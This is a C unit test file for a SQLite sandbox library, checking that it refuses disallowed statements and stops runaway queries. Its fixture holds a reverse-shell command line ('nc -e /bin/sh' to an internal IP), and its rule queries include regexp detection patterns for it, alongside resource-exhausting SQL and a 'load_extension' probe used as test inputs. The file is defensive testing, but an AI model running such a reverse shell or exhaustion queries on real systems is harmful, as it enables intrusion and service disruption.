/* The sandbox on a bare in-memory connection: what it refuses at prepare
 * time, what it stops at run time, and regexp(). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <errno.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include "errbuf.h"
#include "sqlguard.h"

struct fixture {
	sqlite3 *db;
	struct sqlguard *g;
};

static int
setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	assert_non_null(f);
	assert_int_equal(sqlite3_open(":memory:", &f->db), SQLITE_OK);
	assert_int_equal(sqlite3_exec(f->db,
	                              "PRAGMA temp_store = MEMORY;"
	                              "CREATE TABLE live_processes (pid INTEGER, name TEXT);"
	                              "CREATE TABLE alerts (alert_id TEXT);"
	                              "CREATE TABLE secrets (x TEXT);"
	                              "CREATE TEMP TABLE processes (pid INTEGER, name TEXT,"
	                              " command_line TEXT);"
	                              "INSERT INTO temp.processes VALUES (1, 'bash', 'bash -i'),"
	                              " (2, 'nc', 'nc -e /bin/sh 10.0.0.1 4444');",
	                              NULL, NULL, NULL),
	                 SQLITE_OK);
	assert_int_equal(sqlguard_attach(f->db, &f->g), 0);
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fixture *f = *state;

	sqlite3_close(f->db);
	sqlguard_free(f->g);
	free(f);
	return 0;
}

/* Prepares under kind; returns 0 or the error with the reason in err. */
static int
try_prepare(struct fixture *f, enum sqlguard_kind kind, const char *sql, struct errbuf *err)
{
	sqlite3_stmt *st = NULL;
	int rc;

	err->msg[0] = '\0';
	rc = sqlguard_prepare(f->g, kind, sql, &st, err);
	sqlite3_finalize(st);
	return rc;
}

/* Runs a statement to the end under the guard; returns rows or the error. */
static int
try_run(struct fixture *f, const char *sql, uint32_t timeout_ms, struct errbuf *err)
{
	sqlite3_stmt *st = NULL;
	int rc, rows = 0;

	if ((rc = sqlguard_prepare(f->g, SQLGUARD_QUERY, sql, &st, err)) < 0)
		return rc;
	sqlguard_run_begin(f->g, SQLGUARD_QUERY, timeout_ms);
	while ((rc = sqlite3_step(st)) == SQLITE_ROW)
		rows += sqlite3_column_int(st, 0);
	if (rc != SQLITE_DONE)
		rows = sqlguard_step_error(f->g, rc, err);
	sqlguard_run_end(f->g);
	sqlite3_finalize(st);
	return rows;
}

struct refused {
	const char *sql;
	const char *reason; /* a substring of the message */
};

static void
test_refused_at_prepare(void **state)
{
	static const struct refused cases[] = {
		{ "ATTACH DATABASE '/tmp/x' AS x", "ATTACH" },
		{ "DETACH DATABASE temp", "DETACH" },
		{ "PRAGMA writable_schema = 1", "PRAGMA" },
		{ "SELECT * FROM pragma_table_info('alerts')", "not allowed" },
		{ "INSERT INTO live_processes VALUES (1, 'x')", "INSERT" },
		{ "UPDATE live_processes SET name = 'x'", "UPDATE" },
		{ "DELETE FROM live_processes", "DELETE" },
		{ "DROP TABLE live_processes", "not allowed" },
		{ "CREATE TABLE t (x)", "not allowed" },
		{ "SELECT load_extension('/tmp/evil.so')", "load_extension" },
		{ "SELECT randomblob(1000000000) AS pid", "randomblob" },
		{ "SELECT zeroblob(1000000000) AS pid", "zeroblob" },
		{ "SELECT * FROM sqlite_master", "sqlite_master" },
		{ "SELECT * FROM secrets", "secrets" },
		{ "SELECT count(*) AS pid FROM secrets", "secrets" },
		{ "SELECT 1 AS pid FROM alerts", "alerts" },
		{ "SELECT pid FROM processes; DELETE FROM live_processes", "one statement" },
		{ "SELECT pid FROM processes; SELECT 1", "one statement" },
		{ "SELEKT pid FROM processes", "syntax error" },
		{ "  -- nothing\n", "empty" },
		{ "SELECT name FROM processes", "pid" },
		{ "BEGIN", "transaction" },
		{ "VACUUM", "read-only" },
		{ "SELECT sqlite_version() AS pid", "sqlite_version" },
	};
	struct fixture *f = *state;
	struct errbuf err;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int rc = try_prepare(f, SQLGUARD_RULE, cases[i].sql, &err);
		if (rc != -EINVAL || strstr(err.msg, cases[i].reason) == NULL)
			fprintf(stderr, "case %zu %s: rc %d reason '%s'\n", i, cases[i].sql, rc,
			        err.msg);
		assert_int_equal(rc, -EINVAL);
		assert_non_null(strstr(err.msg, cases[i].reason));
	}
}

static void
test_allowed(void **state)
{
	static const char *const ok_rule[] = {
		"SELECT pid, name FROM processes WHERE name LIKE 'b%'",
		"SELECT p.pid FROM processes p JOIN live_processes l ON l.pid = p.pid",
		"WITH x AS (SELECT pid FROM processes) SELECT pid FROM x",
		"SELECT pid FROM processes WHERE command_line REGEXP 'nc\\s+-e'",
		"SELECT pid, lower(name), length(command_line), coalesce(name, '') AS n"
		" FROM processes WHERE instr(command_line, '-e') > 0;",
		"select PID from processes",
	};
	struct fixture *f = *state;
	struct errbuf err;

	for (size_t i = 0; i < sizeof(ok_rule) / sizeof(ok_rule[0]); i++) {
		int rc = try_prepare(f, SQLGUARD_RULE, ok_rule[i], &err);
		if (rc != 0)
			fprintf(stderr, "refused %s: %s\n", ok_rule[i], err.msg);
		assert_int_equal(rc, 0);
	}
	/* alerts is readable by the CLI's query, not by rules. */
	assert_int_equal(try_prepare(f, SQLGUARD_QUERY, "SELECT * FROM alerts", &err), 0);
	assert_int_equal(try_prepare(f, SQLGUARD_RULE, "SELECT 1 AS pid FROM alerts", &err),
	                 -EINVAL);
	assert_true(sqlguard_function_allowed("REGEXP"));
	assert_false(sqlguard_function_allowed("load_extension"));
}

static void
test_stopped_at_run(void **state)
{
	struct fixture *f = *state;
	struct sqlguard_stats st;
	struct errbuf err;

	/* A recursive CTE that never ends: the time limit. */
	assert_int_equal(try_run(f,
	                         "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
	                         " SELECT count(*) FROM c",
	                         30, &err),
	                 -ETIMEDOUT);
	assert_non_null(strstr(err.msg, "time limit"));
	/* A value larger than the length limit: printf() yields NULL, replace() fails. */
	assert_int_equal(try_run(f, "SELECT printf('%.*c', 100000000, 'x') IS NULL", 1000, &err),
	                 1);
	assert_int_equal(try_run(f,
	                         "SELECT length(replace(printf('%.*c', 1000, 'x'), 'x',"
	                         " printf('%.*c', 5000, 'y')))",
	                         1000, &err),
	                 -E2BIG);
	/* A string doubled until it is too big. */
	assert_int_equal(
	    try_run(f,
	            "WITH RECURSIVE c(s) AS (SELECT 'xx' UNION ALL SELECT s || s FROM c)"
	            " SELECT length(s) FROM c",
	            1000, &err),
	    -E2BIG);
	/* A sort of 200 values of 900 KB each: the memory budget (64 MiB). */
	assert_int_equal(try_run(f,
	                         "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c"
	                         " WHERE x < 200) SELECT length(s) FROM (SELECT printf('%.*c',"
	                         " 900000, 'y') || x AS s FROM c) ORDER BY s",
	                         10000, &err),
	                 -E2BIG);
	assert_non_null(strstr(err.msg, "memory budget"));
	/* Catastrophic backtracking: the PCRE2 match limit, not a hang. */
	assert_int_equal(
	    try_run(f, "SELECT regexp('^(a+)+$', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab')",
	            1000, &err),
	    -EINVAL);
	assert_non_null(strstr(err.msg, "regexp"));
	sqlguard_get_stats(f->g, &st);
	assert_int_equal(st.regex_limit_hits, 1);
	/* The connection still works after every one of those. */
	assert_int_equal(try_run(f, "SELECT count(*) FROM processes", 2000, &err), 2);
}

static void
test_regexp(void **state)
{
	struct fixture *f = *state;
	struct sqlguard_stats st;
	struct errbuf err;

	assert_int_equal(try_run(f,
	                         "SELECT count(*) FROM processes WHERE command_line"
	                         " REGEXP '\\bnc\\b.*-e\\s'",
	                         2000, &err),
	                 1);
	assert_int_equal(try_run(f, "SELECT regexp('^bash', name) FROM processes", 2000, &err), 1);
	assert_int_equal(try_run(f, "SELECT regexp(NULL, 'x') IS NULL", 2000, &err), 1);
	/* UTF-8 aware: '.' is one character, not one byte. */
	assert_int_equal(try_run(f, "SELECT regexp('^caf.$', 'caf\xc3\xa9')", 2000, &err), 1);
	/* Bytes that are not UTF-8 (only a CAST blob can make them) are an error. */
	assert_int_equal(try_run(f, "SELECT regexp('a', CAST(x'ff61' AS TEXT))", 2000, &err),
	                 -EINVAL);
	assert_non_null(strstr(err.msg, "regexp"));
	/* Past the first eight bytes too (ASCII subjects skip PCRE2's own
	 * check; a subject with any other byte keeps it). */
	assert_int_equal(try_run(f,
	                         "SELECT regexp('a', CAST(x'6161616161616161616161ff61' AS TEXT))",
	                         2000, &err),
	                 -EINVAL);
	assert_int_equal(
	    try_run(f, "SELECT regexp('^a{16}.$', 'aaaaaaaaaaaaaaaa\xc3\xa9')", 2000, &err), 1);
	assert_int_equal(try_run(f, "SELECT regexp('^a{16}b$', 'aaaaaaaaaaaaaaaab')", 2000, &err),
	                 1);
	/* A constant pattern keeps its compiled code for the statement run;
	 * 98 other patterns between two of its calls evict and refill its
	 * cache slot, which must be noticed (3 matches of x{3}, 1 of y{2}). */
	assert_int_equal(try_run(f,
	                         "WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM c"
	                         " WHERE i < 300) SELECT sum(CASE WHEN i % 100 = 0"
	                         " THEN regexp('^x{3}$', 'xx' || char(120 + i % 1))"
	                         " ELSE regexp('^y{' || i || '}$', 'yy') END) FROM c",
	                         5000, &err),
	                 4);
	assert_int_equal(try_run(f, "SELECT regexp('(', 'x')", 100, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "bad pattern"));
	/* Many distinct patterns: the cache stays bounded and still answers. */
	for (int i = 0; i < SQLGUARD_REGEX_CACHE * 2; i++) {
		char sql[128];
		snprintf(sql, sizeof(sql), "SELECT regexp('x{%d}', 'xxxx')", i % 100);
		assert_true(try_run(f, sql, 2000, &err) >= 0);
	}
	sqlguard_get_stats(f->g, &st);
	assert_int_equal(st.regex_limit_hits, 0); /* a bad pattern or bad UTF-8 is no limit */
	assert_true(st.regex_cache_hits > 0);
	assert_true(st.regex_compiles > SQLGUARD_REGEX_CACHE);
}

/* Work outside SQLite's instructions asks sqlguard_deadline_passed(): only
 * while a statement runs, and only once its deadline is behind. */
static void
test_deadline_passed(void **state)
{
	struct fixture *f = *state;
	struct errbuf err;

	assert_false(sqlguard_deadline_passed(NULL));
	assert_false(sqlguard_deadline_passed(f->g)); /* trusted mode */
	sqlguard_run_begin(f->g, SQLGUARD_RULE, 5000);
	assert_false(sqlguard_deadline_passed(f->g));
	sqlguard_run_end(f->g);
	sqlguard_run_begin(f->g, SQLGUARD_RULE, 1);
	(void)nanosleep(&(struct timespec){ .tv_nsec = 5 * 1000 * 1000 }, NULL);
	assert_true(sqlguard_deadline_passed(f->g));
	/* The step that stops on it reports the time limit. */
	assert_int_equal(sqlguard_step_error(f->g, SQLITE_INTERRUPT, &err), -ETIMEDOUT);
	assert_non_null(strstr(err.msg, "time limit of 1 ms"));
	sqlguard_run_end(f->g);
	assert_false(sqlguard_deadline_passed(f->g));
}

/* Statement text limits, the function allow-list lookup, no attached
 * databases, an over-long regexp pattern, the default time limit. */
static void
test_limits_and_lookup(void **state)
{
	struct fixture *f = *state;
	struct errbuf err;
	char *sql, pat[1300];
	size_t n = SQLGUARD_MAX_SQL + 16;

	assert_int_equal(try_prepare(f, SQLGUARD_QUERY, NULL, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "statement missing or too long"));
	sql = malloc(n + 1);
	assert_non_null(sql);
	memset(sql, ' ', n);
	memcpy(sql, "SELECT 1", 8);
	sql[n] = '\0';
	assert_int_equal(try_prepare(f, SQLGUARD_QUERY, sql, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "at most 65536 bytes"));
	sql[SQLGUARD_MAX_SQL] = '\0'; /* exactly the maximum is fine */
	assert_int_equal(try_prepare(f, SQLGUARD_QUERY, sql, &err), 0);
	free(sql);

	assert_true(sqlguard_function_allowed("regexp"));
	assert_true(sqlguard_function_allowed("REGEXP"));
	assert_true(sqlguard_function_allowed("json_extract"));
	assert_false(sqlguard_function_allowed("load_extension"));
	assert_false(sqlguard_function_allowed("readfile"));
	assert_false(sqlguard_function_allowed(""));
	assert_false(sqlguard_function_allowed(NULL));

	/* No other database can even be attached (the attach limit is 0). */
	assert_int_not_equal(sqlite3_exec(f->db, "ATTACH ':memory:' AS aux", NULL, NULL, NULL),
	                     SQLITE_OK);
	/* main and temp are the schema names a statement may use. */
	assert_int_equal(
	    try_prepare(f, SQLGUARD_QUERY, "SELECT pid FROM main.live_processes", &err), 0);

	/* regexp() patterns are bounded. */
	memcpy(pat, "SELECT regexp('", 15);
	memset(pat + 15, 'a', 1025);
	snprintf(pat + 15 + 1025, sizeof(pat) - 15 - 1025, "', 'a')");
	assert_int_equal(try_run(f, pat, 2000, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "pattern longer than 1024 bytes"));
	/* 1024 a's: allowed (no match against 'a', no error). */
	memcpy(pat + 15 + 1024, "', 'a')", 8);
	assert_int_equal(try_run(f, pat, 2000, &err), 0);
	/* A zero time limit means the default, not "stop at once". */
	assert_int_equal(try_run(f, "SELECT count(*) FROM processes", 0, &err), 2);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_refused_at_prepare, setup, teardown),
		cmocka_unit_test_setup_teardown(test_allowed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_stopped_at_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_regexp, setup, teardown),
		cmocka_unit_test_setup_teardown(test_limits_and_lookup, setup, teardown),
		cmocka_unit_test_setup_teardown(test_deadline_passed, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
